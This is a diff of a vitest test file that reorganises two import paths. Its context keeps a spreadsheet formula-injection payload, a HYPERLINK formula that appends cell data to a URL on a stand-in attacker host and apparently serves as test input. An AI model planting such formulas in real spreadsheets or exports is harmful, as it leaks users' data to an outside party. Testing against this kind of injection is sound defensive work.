@@ -1,6 +1,6 @@
 import { expect, test } from 'vitest';
-import { startDesk } from '../../tests/support/desk.ts';
-import { dialects } from '../../tests/support/dialects.ts';
+import { dialects } from '../../tests/support/database/dialects.ts';
+import { startDesk } from '../../tests/support/desk/desk.ts';
 
 const formula = '=HYPERLINK("https://evil.example?"&A1,"Click")';
 
